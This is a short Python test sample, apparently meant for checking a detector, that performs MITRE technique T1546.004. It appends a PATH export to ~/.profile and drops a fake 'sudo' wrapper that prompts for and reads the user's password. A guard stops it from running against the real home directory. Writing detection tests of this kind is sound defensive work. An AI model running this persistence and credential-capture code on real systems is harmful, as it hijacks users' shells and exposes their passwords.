# technique: T1546.004
"""Unix Shell Configuration Modification (T1546.004), spelled with os.open
and os.write on ~/.profile.

Opens ~/.profile with os.open(O_WRONLY|O_APPEND|O_CREAT) and os.write()s
an export of a PATH that puts an attacker directory (~/.local/.bin) first,
then drops a fake `sudo` there. No Python file object is involved: the
audit event is the low-level open with flags and no mode string.

A good detector raises a medium or high alert: a program appends to a
login shell's start-up file (~/.profile).
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os

home = os.path.expanduser("~")
bindir = os.path.join(home, ".local", ".bin")
os.makedirs(bindir, exist_ok=True)
fd = os.open(os.path.join(home, ".profile"), os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
try:
    os.write(fd, b'\nexport PATH="$HOME/.local/.bin:$PATH"\n')
finally:
    os.close(fd)
fake = os.path.join(bindir, "sudo")
fd = os.open(fake, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o755)
os.write(fd, b'#!/bin/sh\nprintf "[sudo] password for $USER: " >&2\nread -r p\n/usr/bin/sudo "$@"\n')
os.close(fd)
